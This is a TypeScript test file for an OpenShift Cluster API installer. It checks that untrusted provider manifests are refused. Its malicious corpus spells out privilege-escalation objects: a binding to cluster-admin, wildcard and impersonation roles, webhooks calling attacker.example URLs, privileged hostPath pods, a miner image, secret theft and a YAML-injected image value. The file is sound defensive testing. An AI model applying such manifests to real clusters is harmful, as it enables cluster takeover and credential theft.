/**
 * SPEC §6 "A transport ConfigMap is untrusted input": a corpus of malicious documents, each added to an
 * otherwise sound provider, must fail that whole provider with a message naming the document and the bound
 * it broke — escalating bindings, wildcard and escalating roles, webhook configurations with the product's
 * names or matching others' API groups, pods under someone else's ServiceAccount or outside restricted-v2,
 * images from elsewhere, kinds off the allowlist, and objects that would hijack the installer's own inputs.
 * The sound provider itself (and the demo providers) must pass. Pure: renderProviders only; the live
 * no-takeover bound is in apply.test.ts, the whole installer in untrusted.integration.test.ts.
 */
import { describe, expect, it } from "vitest";
import { stringify } from "yaml";
import {
  DEMO_AWS_COMPONENTS,
  DEMO_CORE_COMPONENTS,
  DEMO_IMAGES,
} from "../../src/installer/demo-providers.js";
import { packProvider } from "../../src/installer/pack.js";
import { type ProviderSource, type RenderContext, renderProviders } from "../../src/installer/render.js";
import { getPath, type KubeObject } from "../../src/kube/object.js";

const NS = "openshift-cluster-api";
const IMAGE = "quay.io/openshift/capa:4.20";
const IMAGES_CM = "machine-api-migration-images";
const WHERE = `ConfigMap ${NS}/capi-provider-infrastructure-aws`;

// ---------------------------------------------------------------------------------------------------------
// Builders of real-shaped objects

const meta = (name: string, extra: Record<string, unknown> = {}) => ({ metadata: { name, ...extra } });
const serviceAccount = (name: string): KubeObject => ({
  apiVersion: "v1",
  kind: "ServiceAccount",
  ...meta(name),
});
const clusterRole = (name: string, rules: unknown[], extra: Record<string, unknown> = {}): KubeObject => ({
  apiVersion: "rbac.authorization.k8s.io/v1",
  kind: "ClusterRole",
  ...meta(name),
  rules,
  ...extra,
});
const role = (name: string, rules: unknown[]): KubeObject => ({
  apiVersion: "rbac.authorization.k8s.io/v1",
  kind: "Role",
  ...meta(name),
  rules,
});
const sa = (name: string) => ({ kind: "ServiceAccount", name, namespace: NS });
const binding = (
  kind: "ClusterRoleBinding" | "RoleBinding",
  name: string,
  roleRef: { kind: string; name: string },
  subjects: unknown[],
): KubeObject => ({
  apiVersion: "rbac.authorization.k8s.io/v1",
  kind,
  ...meta(name),
  roleRef: { apiGroup: "rbac.authorization.k8s.io", ...roleRef },
  subjects,
});
const service = (name: string, spec: Record<string, unknown> = {}, annotations?: Record<string, string>) => ({
  apiVersion: "v1",
  kind: "Service",
  ...meta(name, annotations ? { annotations } : {}),
  spec: { ports: [{ port: 443, targetPort: "webhook-server" }], ...spec },
});
const crd = (
  plural: string,
  kind: string,
  group = "infrastructure.cluster.x-k8s.io",
  spec = {},
): KubeObject => ({
  apiVersion: "apiextensions.k8s.io/v1",
  kind: "CustomResourceDefinition",
  ...meta(`${plural}.${group}`),
  spec: {
    group,
    names: { kind, plural },
    scope: "Namespaced",
    versions: [
      { name: "v1beta2", served: true, storage: true, schema: { openAPIV3Schema: { type: "object" } } },
    ],
    ...spec,
  },
});
const container = (over: Record<string, unknown> = {}) => ({
  name: "manager",
  image: "to.be/replaced:v99",
  args: ["--leader-elect"],
  ...over,
});
const deployment = (
  name: string,
  pod: Record<string, unknown> = {},
  templateAnnotations?: Record<string, string>,
): KubeObject => ({
  apiVersion: "apps/v1",
  kind: "Deployment",
  ...meta(name),
  spec: {
    replicas: 1,
    selector: { matchLabels: { app: name } },
    template: {
      metadata: {
        labels: { app: name },
        ...(templateAnnotations ? { annotations: templateAnnotations } : {}),
      },
      spec: { serviceAccountName: "capa-controller-manager", containers: [container()], ...pod },
    },
  },
});
/** A Deployment whose pods carry `labels`. */
const podLabelled = (name: string, labels: Record<string, string>): KubeObject => {
  const d = deployment(name);
  const template = getPath(d, ["spec", "template"]) as { metadata: Record<string, unknown> };
  template.metadata.labels = labels;
  return d;
};
const webhookConfiguration = (
  name: string,
  webhooks: unknown[],
  kind = "ValidatingWebhookConfiguration",
): KubeObject => ({ apiVersion: "admissionregistration.k8s.io/v1", kind, ...meta(name), webhooks });
const webhook = (over: Record<string, unknown> = {}) => ({
  name: "validation.awsmachine.infrastructure.cluster.x-k8s.io",
  admissionReviewVersions: ["v1"],
  sideEffects: "None",
  failurePolicy: "Fail",
  clientConfig: { service: { name: "capa-webhook-service", namespace: NS, path: "/validate" } },
  rules: [
    {
      apiGroups: ["infrastructure.cluster.x-k8s.io"],
      apiVersions: ["v1beta2"],
      operations: ["CREATE", "UPDATE"],
      resources: ["awsmachines"],
    },
  ],
  ...over,
});

const CAPA_RULES = [
  {
    apiGroups: ["infrastructure.cluster.x-k8s.io", "cluster.x-k8s.io"],
    resources: ["*"],
    verbs: ["get", "list", "watch", "create", "update", "patch", "delete"],
  },
  { apiGroups: [""], resources: ["events"], verbs: ["create", "patch"] },
  { apiGroups: [""], resources: ["namespaces"], verbs: ["get", "list", "watch"] },
  { apiGroups: ["authentication.k8s.io"], resources: ["tokenreviews"], verbs: ["create"] },
  { apiGroups: ["authorization.k8s.io"], resources: ["subjectaccessreviews"], verbs: ["create"] },
];

/** A sound infrastructure provider, shaped like CAPA's components after pack-provider. */
const SOUND: KubeObject[] = [
  crd("awsmachines", "AWSMachine"),
  serviceAccount("capa-controller-manager"),
  clusterRole("capa-manager-role", CAPA_RULES),
  binding(
    "ClusterRoleBinding",
    "capa-manager-rolebinding",
    { kind: "ClusterRole", name: "capa-manager-role" },
    [sa("capa-controller-manager")],
  ),
  role("capa-leader-election-role", [
    {
      apiGroups: ["coordination.k8s.io"],
      resources: ["leases"],
      verbs: ["get", "list", "watch", "create", "update", "patch", "delete"],
    },
    { apiGroups: [""], resources: ["secrets", "configmaps"], verbs: ["get", "list", "watch"] },
  ]),
  binding(
    "RoleBinding",
    "capa-leader-election-rolebinding",
    { kind: "Role", name: "capa-leader-election-role" },
    [sa("capa-controller-manager")],
  ),
  service(
    "capa-webhook-service",
    {},
    { "service.beta.openshift.io/serving-cert-secret-name": "capa-webhook-cert" },
  ),
  deployment("capa-controller-manager", {
    volumes: [{ name: "cert", secret: { secretName: "capa-webhook-cert" } }],
    securityContext: { runAsNonRoot: true, seccompProfile: { type: "RuntimeDefault" } },
  }),
  webhookConfiguration("capa-validating-webhook-configuration", [webhook()]),
];
/** The document number the first object after SOUND gets. */
const NEXT = SOUND.length + 1;

const yamlOf = (objects: readonly KubeObject[]): string => objects.map((o) => stringify(o)).join("---\n");
const source = (components: string): ProviderSource => ({
  name: "aws",
  type: "infrastructure",
  version: "v2.9.0",
  configMap: `${NS}/capi-provider-infrastructure-aws`,
  components,
});
const context = (over: Partial<RenderContext> = {}): RenderContext => ({
  namespace: NS,
  images: { "infrastructure-aws": IMAGE },
  variables: {},
  imagesConfigMap: IMAGES_CM,
  ...over,
});
const render = (objects: readonly KubeObject[], over: Partial<RenderContext> = {}) =>
  renderProviders([source(yamlOf(objects))], context(over))[0]!;
const errorsOf = (objects: readonly KubeObject[], over: Partial<RenderContext> = {}): string[] => {
  const result = render(objects, over);
  return result.ok ? [] : result.errors;
};

describe("bounds: sound providers pass", () => {
  it("the sound CAPA-shaped provider renders", () => {
    const result = render(SOUND);
    expect(result.ok ? [] : result.errors).toEqual([]);
  });

  it("the demo providers, packed as pack-provider packs them, render", () => {
    for (const [name, type, components] of [
      ["cluster-api", "core", DEMO_CORE_COMPONENTS],
      ["aws", "infrastructure", DEMO_AWS_COMPONENTS],
    ] as const) {
      const packed = packProvider({ name, type, version: "v1", namespace: NS, components });
      if (!packed.ok) throw new Error(packed.error);
      const [result] = renderProviders(
        [
          {
            name,
            type,
            version: "v1",
            configMap: `${NS}/${name}`,
            components: String((packed.configMap.data as Record<string, string>).components),
          },
        ],
        context({ images: { ...DEMO_IMAGES } }),
      );
      expect(result?.ok ? [] : result?.errors).toEqual([]);
    }
  });
});

/** Why a CRD's group is refused for the infrastructure provider SOUND is. */
const INFRA_GROUPS_TEXT =
  "an infrastructure provider's CRDs are in infrastructure.cluster.x-k8s.io, bootstrap.cluster.x-k8s.io or controlplane.cluster.x-k8s.io";

/**
 * [what, the malicious object, the bound, the detail, context changes]; the object is added to SOUND as
 * document NEXT.
 */
const CORPUS: [string, KubeObject, string, string, Partial<RenderContext>?][] = [
  // --- RBAC: bindings only to the provider's own roles, subjects only its own ServiceAccounts
  [
    "a ClusterRoleBinding to cluster-admin",
    binding("ClusterRoleBinding", "pwn", { kind: "ClusterRole", name: "cluster-admin" }, [
      sa("capa-controller-manager"),
    ]),
    "own-roles",
    "binds ClusterRole cluster-admin, which this provider does not ship",
  ],
  [
    "a RoleBinding to the admin ClusterRole",
    binding("RoleBinding", "pwn", { kind: "ClusterRole", name: "admin" }, [sa("capa-controller-manager")]),
    "own-roles",
    "binds ClusterRole admin, which this provider does not ship",
  ],
  [
    "a binding of the provider's role to a group of users",
    binding("ClusterRoleBinding", "pwn", { kind: "ClusterRole", name: "capa-manager-role" }, [
      { kind: "Group", apiGroup: "rbac.authorization.k8s.io", name: "system:authenticated" },
    ]),
    "own-service-accounts",
    "binds Group system:authenticated; subjects may only be ServiceAccounts this provider ships",
  ],
  [
    "a binding of the provider's role to the product's ServiceAccount",
    binding("ClusterRoleBinding", "pwn", { kind: "ClusterRole", name: "capa-manager-role" }, [
      sa("machine-api-migration"),
    ]),
    "own-service-accounts",
    `binds ServiceAccount ${NS}/machine-api-migration, which this provider does not ship`,
  ],
  // --- RBAC: the ceiling
  [
    "a wildcard ClusterRole",
    clusterRole("pwn", [{ apiGroups: ["*"], resources: ["*"], verbs: ["*"] }]),
    "rbac-ceiling",
    "grants what the ceiling ClusterRole machine-api-migration-installer-ceiling does not: * *.*",
  ],
  [
    "a role that may escalate and bind",
    clusterRole("pwn", [
      { apiGroups: ["rbac.authorization.k8s.io"], resources: ["clusterroles"], verbs: ["escalate", "bind"] },
    ]),
    "rbac-ceiling",
    "grants what the ceiling ClusterRole machine-api-migration-installer-ceiling does not: escalate clusterroles.rbac.authorization.k8s.io, bind clusterroles.rbac.authorization.k8s.io",
  ],
  [
    "impersonation",
    clusterRole("pwn", [{ apiGroups: [""], resources: ["users", "groups"], verbs: ["impersonate"] }]),
    "rbac-ceiling",
    "grants what the ceiling ClusterRole machine-api-migration-installer-ceiling does not: impersonate users, impersonate groups",
  ],
  [
    "ServiceAccount tokens, nodes/proxy and pods/exec",
    clusterRole("pwn", [
      { apiGroups: [""], resources: ["serviceaccounts/token"], verbs: ["create"] },
      { apiGroups: [""], resources: ["nodes/proxy"], verbs: ["get"] },
      { apiGroups: [""], resources: ["pods/exec"], verbs: ["create"] },
    ]),
    "rbac-ceiling",
    "grants what the ceiling ClusterRole machine-api-migration-installer-ceiling does not: create serviceaccounts/token, get nodes/proxy, create pods/exec",
  ],
  [
    "cluster-wide Secrets",
    clusterRole("pwn", [{ apiGroups: [""], resources: ["secrets"], verbs: ["get", "list"] }]),
    "rbac-ceiling",
    "grants what the ceiling ClusterRole machine-api-migration-installer-ceiling does not: get secrets, list secrets",
  ],
  [
    "webhook-configuration writes",
    clusterRole("pwn", [
      {
        apiGroups: ["admissionregistration.k8s.io"],
        resources: ["validatingwebhookconfigurations"],
        verbs: ["patch"],
      },
    ]),
    "rbac-ceiling",
    "grants what the ceiling ClusterRole machine-api-migration-installer-ceiling does not: patch validatingwebhookconfigurations.admissionregistration.k8s.io",
  ],
  [
    "a namespaced Role with wildcard verbs on Pods",
    role("pwn", [{ apiGroups: [""], resources: ["pods"], verbs: ["*"] }]),
    "rbac-ceiling",
    "grants what the ceiling ClusterRole machine-api-migration-installer-ceiling does not: * pods",
  ],
  [
    "an aggregated ClusterRole",
    clusterRole("pwn", [], {
      aggregationRule: {
        clusterRoleSelectors: [{ matchLabels: { "kubernetes.io/bootstrapping": "rbac-defaults" } }],
      },
    }),
    "rbac-ceiling",
    "has an aggregationRule, which gathers rules from other ClusterRoles that the ceiling cannot check",
  ],
  [
    "a ClusterRole that aggregates into admin",
    {
      ...clusterRole("pwn", [{ apiGroups: [""], resources: ["namespaces"], verbs: ["get"] }]),
      metadata: { name: "pwn", labels: { "rbac.authorization.k8s.io/aggregate-to-admin": "true" } },
    },
    "rbac-ceiling",
    "carries label rbac.authorization.k8s.io/aggregate-to-admin, which would add its rules to roles others hold",
  ],
  // --- admission configurations
  [
    "the product's deny configuration with no webhooks (admission switched off)",
    webhookConfiguration("machine-api-migration-deny", []),
    "product-objects",
    "has the name of one of the product's own objects (machine-api-migration*), which the installer never touches",
  ],
  [
    "a webhook matching the product's API group",
    webhookConfiguration("capa-extra", [
      webhook({
        rules: [
          { apiGroups: ["machine.openshift.io"], apiVersions: ["*"], operations: ["*"], resources: ["*"] },
        ],
      }),
    ]),
    "webhooks",
    'webhook validation.awsmachine.infrastructure.cluster.x-k8s.io matches API group "machine.openshift.io", not one of this provider\'s own (infrastructure.cluster.x-k8s.io)',
  ],
  [
    "a webhook matching every API group",
    webhookConfiguration(
      "capa-extra",
      [webhook({ rules: [{ apiGroups: ["*"], apiVersions: ["*"], operations: ["*"], resources: ["*"] }] })],
      "MutatingWebhookConfiguration",
    ),
    "webhooks",
    'webhook validation.awsmachine.infrastructure.cluster.x-k8s.io matches API group "*", not one of this provider\'s own (infrastructure.cluster.x-k8s.io)',
  ],
  [
    "a webhook calling a URL",
    webhookConfiguration("capa-extra", [webhook({ clientConfig: { url: "https://attacker.example/hook" } })]),
    "webhooks",
    "webhook validation.awsmachine.infrastructure.cluster.x-k8s.io calls a URL; it may only call a Service this provider ships",
  ],
  [
    "a webhook calling the product's Service",
    webhookConfiguration("capa-extra", [
      webhook({ clientConfig: { service: { name: "machine-api-migration", namespace: NS } } }),
    ]),
    "webhooks",
    "webhook validation.awsmachine.infrastructure.cluster.x-k8s.io calls Service machine-api-migration, which this provider does not ship",
  ],
  [
    "a CRD in the product's API group",
    crd("machinewidgets", "MachineWidget", "machine.openshift.io"),
    "api-groups",
    `defines API group machine.openshift.io; ${INFRA_GROUPS_TEXT}`,
  ],
  // A CRD would make its group "the provider's own", and its webhooks could then match everything in it.
  [
    "a CRD in a third-party API group (OLM's, whose objects grant RBAC)",
    crd("pwns", "Pwn", "operators.coreos.com"),
    "api-groups",
    `defines API group operators.coreos.com; ${INFRA_GROUPS_TEXT}`,
  ],
  [
    "a CRD in the core provider's API group",
    crd("pwns", "Pwn", "cluster.x-k8s.io"),
    "api-groups",
    `defines API group cluster.x-k8s.io; ${INFRA_GROUPS_TEXT}`,
  ],
  [
    "a CRD whose conversion webhook calls a URL",
    crd("awsthings", "AWSThing", "infrastructure.cluster.x-k8s.io", {
      conversion: {
        strategy: "Webhook",
        webhook: { clientConfig: { url: "https://attacker.example/convert" } },
      },
    }),
    "webhooks",
    "the conversion webhook calls a URL; it may only call a Service this provider ships",
  ],
  // --- pods
  [
    "a Deployment with the product's name",
    deployment("machine-api-migration"),
    "product-objects",
    "has the name of one of the product's own objects (machine-api-migration*), which the installer never touches",
  ],
  [
    "a Deployment running as the product's ServiceAccount",
    deployment("capa-extra", { serviceAccountName: "machine-api-migration" }),
    "own-service-accounts",
    "runs pods as ServiceAccount machine-api-migration, which this provider does not ship",
  ],
  [
    "a Deployment running as the namespace's default ServiceAccount",
    deployment("capa-extra", { serviceAccountName: undefined }),
    "own-service-accounts",
    "runs pods as the namespace's default ServiceAccount; name a ServiceAccount this provider ships",
  ],
  [
    "a privileged container",
    deployment("capa-extra", { containers: [container({ securityContext: { privileged: true } })] }),
    "restricted-v2",
    "container manager is privileged",
  ],
  [
    "the host's network",
    deployment("capa-extra", { hostNetwork: true }),
    "restricted-v2",
    "the pod uses the host's network namespace",
  ],
  [
    "a hostPath volume",
    deployment("capa-extra", { volumes: [{ name: "root", hostPath: { path: "/" } }] }),
    "restricted-v2",
    "volume root is a hostPath volume",
  ],
  [
    "a host port, a root user and an added capability",
    deployment("capa-extra", {
      containers: [
        container({
          ports: [{ containerPort: 22, hostPort: 22 }],
          securityContext: { runAsUser: 0, capabilities: { add: ["SYS_ADMIN"] } },
        }),
      ],
    }),
    "restricted-v2",
    "container manager runs as root (runAsUser 0); container manager adds capability SYS_ADMIN; container manager uses host port 22",
  ],
  [
    "an SCC other than restricted-v2 requested",
    deployment("capa-extra", {}, { "openshift.io/required-scc": "privileged" }),
    "restricted-v2",
    "the pod asks for SCC privileged",
  ],
  [
    "an image not from the images ConfigMap",
    deployment("capa-extra", { containers: [container({ image: "quay.io/attacker/miner:latest" })] }),
    "images",
    `container manager runs image quay.io/attacker/miner:latest, which is not a value of the images ConfigMap ${IMAGES_CM}`,
  ],
  [
    "a pod mounting the product's serving Secret",
    deployment("capa-extra", {
      volumes: [{ name: "steal", secret: { secretName: "machine-api-migration-tls" } }],
    }),
    "product-objects",
    "volume steal reads Secret machine-api-migration-tls, the product's own",
  ],
  [
    "a pod carrying the product's label, which the product's Service, PodDisruptionBudget and NetworkPolicies select (decision 117)",
    podLabelled("capa-extra", { app: "capa-extra", "app.kubernetes.io/name": "machine-api-migration" }),
    "product-objects",
    "the pod carries label app.kubernetes.io/name=machine-api-migration, the product's own: the product's Service would send the API server's admission reviews to it",
  ],
  [
    "a Service carrying the product's label, which the product's ServiceMonitor selects (decision 117)",
    {
      ...service("capa-metrics"),
      metadata: {
        name: "capa-metrics",
        labels: {
          "app.kubernetes.io/name": "machine-api-migration",
          "app.kubernetes.io/component": "controller",
        },
      },
    },
    "product-objects",
    "carries label app.kubernetes.io/name=machine-api-migration, the product's own, by which the product's Service, PodDisruptionBudget, NetworkPolicies and ServiceMonitor select what is its",
  ],
  // --- kinds and the installer's own inputs
  [
    "a Secret",
    {
      apiVersion: "v1",
      kind: "Secret",
      ...meta("machine-api-migration-tls"),
      stringData: { "tls.key": "x" },
    },
    "kind-allowlist",
    "Secret is not a kind the installer applies (CustomResourceDefinition, Deployment, Service, ServiceAccount, ConfigMap, Role, RoleBinding, ClusterRole, ClusterRoleBinding, ValidatingWebhookConfiguration, MutatingWebhookConfiguration)",
  ],
  [
    "a DaemonSet",
    { apiVersion: "apps/v1", kind: "DaemonSet", ...meta("capa-agent"), spec: {} },
    "kind-allowlist",
    "DaemonSet is not a kind the installer applies (CustomResourceDefinition, Deployment, Service, ServiceAccount, ConfigMap, Role, RoleBinding, ClusterRole, ClusterRoleBinding, ValidatingWebhookConfiguration, MutatingWebhookConfiguration)",
  ],
  [
    "an APIService",
    { apiVersion: "apiregistration.k8s.io/v1", kind: "APIService", ...meta("v1.attacker.example"), spec: {} },
    "kind-allowlist",
    "APIService is not a kind the installer applies (CustomResourceDefinition, Deployment, Service, ServiceAccount, ConfigMap, Role, RoleBinding, ClusterRole, ClusterRoleBinding, ValidatingWebhookConfiguration, MutatingWebhookConfiguration)",
  ],
  [
    "a ConfigMap replacing the images ConfigMap",
    {
      apiVersion: "v1",
      kind: "ConfigMap",
      ...meta("capa-images"),
      data: { "infrastructure-aws": "quay.io/attacker/x:1" },
    },
    "product-objects",
    "is the images ConfigMap capa-images, an input of the installer",
    { imagesConfigMap: "capa-images" },
  ],
  [
    "a ConfigMap posing as a transport ConfigMap",
    {
      apiVersion: "v1",
      kind: "ConfigMap",
      metadata: {
        name: "capi-provider-infrastructure-gcp",
        labels: {
          "provider.cluster.x-k8s.io/name": "gcp",
          "provider.cluster.x-k8s.io/type": "infrastructure",
        },
      },
      data: { components: "" },
    },
    "product-objects",
    "carries label provider.cluster.x-k8s.io/name, which would make it a transport ConfigMap, an input of the installer",
  ],
  [
    "a Service with external IPs",
    service("capa-extra", { externalIPs: ["10.0.0.1"] }),
    "services",
    "sets externalIPs; only ClusterIP Services without external IPs are applied",
  ],
  [
    "a Service asking service-ca for the product's Secret",
    service(
      "capa-extra",
      {},
      { "service.beta.openshift.io/serving-cert-secret-name": "machine-api-migration-tls" },
    ),
    "product-objects",
    "asks service-ca for Secret machine-api-migration-tls, the product's own",
  ],
  [
    "a Service asking service-ca for the product's Secret with the alpha annotation, which service-ca still honours",
    service(
      "capa-extra",
      {},
      { "service.alpha.openshift.io/serving-cert-secret-name": "machine-api-migration-tls" },
    ),
    "product-objects",
    "asks service-ca for Secret machine-api-migration-tls, the product's own",
  ],
];

describe("bounds: the malicious corpus fails the whole provider, naming the document and the bound", () => {
  it.each(CORPUS)("%s", (_, object, bound, detail, over = {}) => {
    const name = String(object.metadata?.name);
    expect(errorsOf([...SOUND, object], over)).toEqual([
      `${WHERE}, document ${NEXT} (${object.kind} ${name}): outside bound ${bound}: ${detail}`,
    ]);
  });

  it("a webhook over a third-party group is refused even when the provider ships a CRD in that group", () => {
    const olm = crd("pwns", "Pwn", "operators.coreos.com");
    const interceptor = webhookConfiguration(
      "capa-olm-interceptor",
      [
        webhook({
          name: "intercept.operators.coreos.com",
          rules: [
            {
              apiGroups: ["operators.coreos.com"],
              apiVersions: ["*"],
              operations: ["CREATE", "UPDATE"],
              resources: ["*"],
            },
          ],
        }),
      ],
      "MutatingWebhookConfiguration",
    );
    expect(errorsOf([...SOUND, olm, interceptor])).toEqual([
      `${WHERE}, document ${NEXT} (CustomResourceDefinition pwns.operators.coreos.com): outside bound api-groups: defines API group operators.coreos.com; ${INFRA_GROUPS_TEXT}`,
      `${WHERE}, document ${NEXT + 1} (MutatingWebhookConfiguration capa-olm-interceptor): outside bound webhooks: webhook intercept.operators.coreos.com matches API group "operators.coreos.com", not one of this provider's own (infrastructure.cluster.x-k8s.io)`,
    ]);
  });

  it("the rule pieces a provider's roles hold are bounded in all, not only per role (many roles just under the per-role bound)", () => {
    const names = (prefix: string, n: number) => Array.from({ length: n }, (_, i) => `${prefix}${i}`);
    // 600 resources × 7 verbs × 15 names = 63,000 pieces each, within the ceiling and under the per-role bound.
    const big = (name: string) =>
      role(name, [
        {
          apiGroups: ["infrastructure.cluster.x-k8s.io"],
          resources: names("r", 600),
          verbs: ["get", "list", "watch", "create", "update", "patch", "delete"],
          resourceNames: names("n", 15),
        },
      ]);
    expect(errorsOf([...SOUND, big("capa-big-1")])).toEqual([]);
    expect(errorsOf([...SOUND, big("capa-big-1"), big("capa-big-2")])).toEqual([
      `${WHERE}, document ${NEXT + 1} (Role capa-big-2): outside bound rbac-ceiling: with the provider's roles before it, more than 100000 verb-resource pairs, too many to check`,
    ]);
  });

  it("CRD writes: only the provider's own CRDs, by name — another's conversion webhook or served versions are not its to change", () => {
    const crdWriter = (resourceNames?: string[]) => [
      clusterRole("capa-crd-writer", [
        {
          apiGroups: ["apiextensions.k8s.io"],
          resources: ["customresourcedefinitions", "customresourcedefinitions/status"],
          verbs: ["get", "update", "patch"],
          ...(resourceNames ? { resourceNames } : {}),
        },
      ]),
      binding("ClusterRoleBinding", "capa-crd-writer", { kind: "ClusterRole", name: "capa-crd-writer" }, [
        sa("capa-controller-manager"),
      ]),
    ];
    const refusal = `${WHERE}, document ${NEXT} (ClusterRole capa-crd-writer): outside bound rbac-ceiling: may write CustomResourceDefinitions that are not this provider's own; a role may write only the CRDs its provider ships, named in resourceNames (awsmachines.infrastructure.cluster.x-k8s.io)`;
    expect(errorsOf([...SOUND, ...crdWriter()])).toEqual([refusal]);
    expect(
      errorsOf([
        ...SOUND,
        ...crdWriter([
          "awsmachines.infrastructure.cluster.x-k8s.io",
          "machineconfigs.machineconfiguration.openshift.io",
        ]),
      ]),
    ).toEqual([refusal]);
    expect(errorsOf([...SOUND, ...crdWriter(["awsmachines.infrastructure.cluster.x-k8s.io"])])).toEqual([]);
  });

  it("a failed bound fails the whole provider: nothing of it is rendered", () => {
    const result = render([...SOUND, CORPUS[0]![1]]);
    expect(result.ok).toBe(false);
    expect(result).not.toHaveProperty("provider");
  });

  it("a binding's role must be shipped by the same provider, not another one in the set", () => {
    const core: ProviderSource = {
      name: "cluster-api",
      type: "core",
      version: "v1",
      configMap: `${NS}/capi-provider-cluster-api`,
      components: yamlOf([clusterRole("capi-manager-role", [])]),
    };
    const results = renderProviders(
      [
        core,
        source(
          yamlOf([
            ...SOUND,
            binding("ClusterRoleBinding", "borrow", { kind: "ClusterRole", name: "capi-manager-role" }, [
              sa("capa-controller-manager"),
            ]),
          ]),
        ),
      ],
      context(),
    );
    expect(results[1]).toMatchObject({
      ok: false,
      errors: [
        `${WHERE}, document ${NEXT} (ClusterRoleBinding borrow): outside bound own-roles: binds ClusterRole capi-manager-role, which this provider does not ship`,
      ],
    });
  });

  it("an images ConfigMap value that is not an image reference is refused where the placeholder uses it", () => {
    const injected = `${IMAGE}\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding`;
    expect(errorsOf(SOUND, { images: { "infrastructure-aws": injected } })).toEqual([
      `${WHERE}, document 8 (Deployment capa-controller-manager): outside bound images: the images ConfigMap's value for "infrastructure-aws" is not a valid image reference`,
    ]);
  });

  it("several bad documents are all named", () => {
    const errors = errorsOf([...SOUND, CORPUS[0]![1], CORPUS[4]![1]]);
    expect(errors).toHaveLength(2);
    expect(errors[0]).toContain(`document ${NEXT} (ClusterRoleBinding pwn): outside bound own-roles`);
    expect(errors[1]).toContain(`document ${NEXT + 1} (ClusterRole pwn): outside bound rbac-ceiling`);
  });
});
